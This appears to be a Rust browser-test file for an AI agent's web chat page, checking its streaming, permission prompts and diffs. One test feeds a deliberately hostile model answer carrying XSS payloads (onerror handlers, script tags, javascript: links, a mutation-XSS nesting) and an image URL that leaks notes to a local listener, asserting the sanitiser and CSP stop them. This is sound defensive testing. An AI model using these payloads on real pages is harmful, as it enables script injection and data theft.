//! The web page at `/`, in headless Chromium.

use super::{Server, run_page, with_first_message};
use crate::sandbox;
use agentry_tests::mock_model::{MockModelServer, MockReply, MockTurn};
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

#[test]
fn the_web_page_streams_answers_asks_questions_asks_permission_and_shows_diffs() {
    let sb = sandbox();
    let notes = sb.write("project/notes.txt", "alpha\nkept\n");
    let model = MockModelServer::start_blocking([
        MockTurn::Reply(MockReply::text("Hello from the agent.")),
        MockTurn::Reply(MockReply::tool_call(
            "ask_1",
            "AskUserQuestion",
            json!({"questions": [{"question": "Which environment?", "header": "Deploy",
                "options": [{"label": "staging"}, {"label": "production"}]}]}),
        )),
        MockTurn::Reply(MockReply::tool_call(
            "read_1",
            "Read",
            json!({"file_path": notes}),
        )),
        MockTurn::Reply(MockReply::tool_call(
            "edit_1",
            "Edit",
            json!({"file_path": notes, "old_string": "alpha", "new_string": "beta"}),
        )),
        MockTurn::Reply(MockReply::text(
            "Edited for **staging**.\n\n| file | before | after |\n|---|---|---|\n\
             | notes.txt | alpha | beta |\n\nTo deploy:\n\n```python\ndeploy(env=\"staging\", notes=\"notes.txt\")\n```\n",
        )),
    ]);
    let server = Server::start(&sb, &model, &[]);
    let shot = std::env::var_os("AGENTRY_PAGE_SHOT")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| sb.project().parent().unwrap().join("page.png"));
    let steps = with_first_message(
        "Say hi",
        "Hello from the agent.",
        json!([
            {"op": "fill", "selector": "#message", "text": "Deploy and edit the notes"},
            // The answer's text shows before its turn has ended; the Send button is enabled again
            // only then, and a click waits for that (Enter while the turn runs sends nothing).
            {"op": "click", "selector": "#send"},
            {"op": "wait_text", "selector": ".question legend", "text": "Which environment?"},
            {"op": "check", "selector": ".question input[value='0']"},
            {"op": "click", "selector": ".question button[type=submit]"},
            {"op": "wait_text", "selector": ".permission", "text": "Allow"},
            {"op": "click", "selector": ".permission button:first-of-type"},
            {"op": "wait_text", "selector": ".diff .del", "text": "alpha"},
            {"op": "text", "selector": ".diff .add"},
            {"op": "wait_text", "selector": ".turn.assistant .answer", "text": "Edited for staging."},
            {"op": "text", "selector": ".turn.user .bubble >> nth=2"},
            {"op": "screenshot", "path": shot},
        ]),
    );
    let (texts, out) = run_page(
        &server.page_link(),
        steps,
        json!({}),
        sb.project().parent().unwrap(),
    );
    assert_eq!(texts[0], "+ beta");
    assert!(texts[1].contains("Answered 1: option 1"), "{texts:?}");
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "beta\nkept\n");
    assert!(shot.exists());
    // Every file the page loaded (its icon and stylesheets included) came with its cookie.
    let network = out.of_kind("network");
    assert_eq!(network[0]["failures"], json!([]), "{network:#?}");
    let requests = network[0]["requests"].to_string();
    assert!(
        requests.contains("/favicon.svg") && requests.contains("/highlight.css"),
        "{requests}"
    );
}

/// A loopback listener that counts the connections made to it, in a thread of its own.
fn counting_listener() -> (u16, Arc<AtomicUsize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let count = Arc::new(AtomicUsize::new(0));
    let counted = count.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            counted.fetch_add(1, Ordering::SeqCst);
            drop(stream);
        }
    });
    (port, count)
}

#[test]
fn answers_are_rendered_markdown_and_a_hostile_answer_runs_and_fetches_nothing() {
    let sb = sandbox();
    let (port, connections) = counting_listener();
    let elsewhere = format!("http://127.0.0.1:{port}");
    let answer = format!(
        "## Done\n\nVisible text <img src=\"{elsewhere}/img\" onerror=\"window.__pwned = 1\"> \
         <script>window.__pwned = 2</script>\n\n\
         [click me](javascript:window.__pwned=3) <iframe src=\"{elsewhere}/frame\"></iframe>\n\n\
         ![the notes]({elsewhere}/leak?notes=secret) <a href=\"#\" onmouseover=\"window.__pwned = 4\">hover</a>\n\n\
         <svg><script>window.__pwned = 5</script></svg><style>body {{ display: none }}</style>\n\n\
         <details open ontoggle=\"window.__pwned = 6\">details</details> \
         <math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned = 7\"></style></mglyph></table></mtext></math>\n\n\
         | tool | calls |\n|---|---|\n| Read | 2 |\n\n```rust\nfn main() {{ println!(\"hi\"); }}\n```\n"
    );
    let model = MockModelServer::start_blocking([MockTurn::Reply(MockReply::text(&answer))]);
    let server = Server::start(&sb, &model, &[]);
    let steps = json!([
        {"op": "click", "selector": "#new-session"},
        {"op": "fill", "selector": "#message", "text": "Summarise the page you read"},
        {"op": "press", "selector": "#message", "key": "Enter"},
        {"op": "wait_text", "selector": ".turn.assistant .answer h2", "text": "Done"},
        {"op": "wait_text", "selector": ".turn.assistant .answer td", "text": "Read"},
        {"op": "eval", "script": "String(window.__pwned)"},
        {"op": "eval", "script": "document.querySelectorAll('#conversation :is(script, iframe, img, style, [onerror], [onmouseover], [style])').length"},
        {"op": "eval", "script": "[...document.querySelectorAll('#conversation a')].map((a) => a.getAttribute('href') ?? '').join(' ')"},
        {"op": "eval", "script": "document.querySelectorAll('.turn.assistant pre.hl-code .hl-rust').length > 0"},
        {"op": "eval", "script": "getComputedStyle(document.querySelector('.turn.assistant pre.hl-code .hl-string')).color !== getComputedStyle(document.querySelector('.turn.assistant .answer')).color"},
        {"op": "text", "selector": ".turn.assistant .answer"},
        {"op": "eval", "script": "getComputedStyle(document.body).display"},
        // The second layer: markup that got past the sanitiser still could not run or fetch.
        {"op": "eval", "script": format!("(async () => {{ document.body.insertAdjacentHTML('beforeend', \
            '<img src=\"x\" onerror=\"window.__csp = 1\"><img src=\"{elsewhere}/csp\">'); \
            await new Promise((done) => setTimeout(done, 500)); return String(window.__csp); }})()")},
    ]);
    let (texts, out) = run_page(
        &server.page_link(),
        steps,
        json!({}),
        sb.project().parent().unwrap(),
    );
    assert_eq!(texts[0], "undefined", "a script ran");
    assert_eq!(texts[1], "0", "markup that runs or fetches survived");
    assert!(!texts[2].contains("javascript:"), "{texts:?}");
    assert!(
        texts[2].contains(&format!("{elsewhere}/leak?notes=secret")),
        "the image is a link: {texts:?}"
    );
    assert_eq!(texts[3], "true", "the code is not highlighted");
    assert_eq!(
        texts[4], "true",
        "highlighted code has no colours of its own"
    );
    assert!(
        texts[5].contains("Visible text") && texts[5].contains("the notes"),
        "{texts:?}"
    );
    assert_eq!(texts[6], "flex", "a style from the answer applied");
    assert_eq!(
        texts[7], "undefined",
        "the page's CSP let an inline handler run"
    );
    assert_eq!(
        connections.load(Ordering::SeqCst),
        0,
        "the page reached another site"
    );
    // The image the test itself inserted was asked for, and refused by the CSP before it left.
    let network = out.of_kind("network");
    let asked: Vec<&str> = network[0]["requests"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .filter(|url| url.starts_with(&elsewhere))
        .collect();
    assert_eq!(asked, [format!("{elsewhere}/csp")], "{network:#?}");
    let blocked = network[0]["blocked"].to_string();
    assert!(
        blocked.contains(&format!("{elsewhere}/csp")) && blocked.contains("\"error\":\"csp\""),
        "{blocked}"
    );
}

#[test]
fn the_page_is_served_with_a_content_security_policy() {
    let sb = sandbox();
    let model = MockModelServer::start_blocking([]);
    let server = Server::start(&sb, &model, &[]);
    for path in [
        "/",
        "/app.js",
        "/style.css",
        "/highlight.css",
        "/favicon.svg",
    ] {
        let (status, headers) = agentry_tests::http::head_of(&format!("{}{path}", server.url));
        assert_eq!(status, 200, "{path}");
        let header = |name: &str| {
            headers
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
        };
        let policy = header("content-security-policy");
        assert!(policy.contains("script-src 'self'"), "{path}: {policy}");
        assert!(!policy.contains("unsafe-inline"), "{path}: {policy}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
    }
}
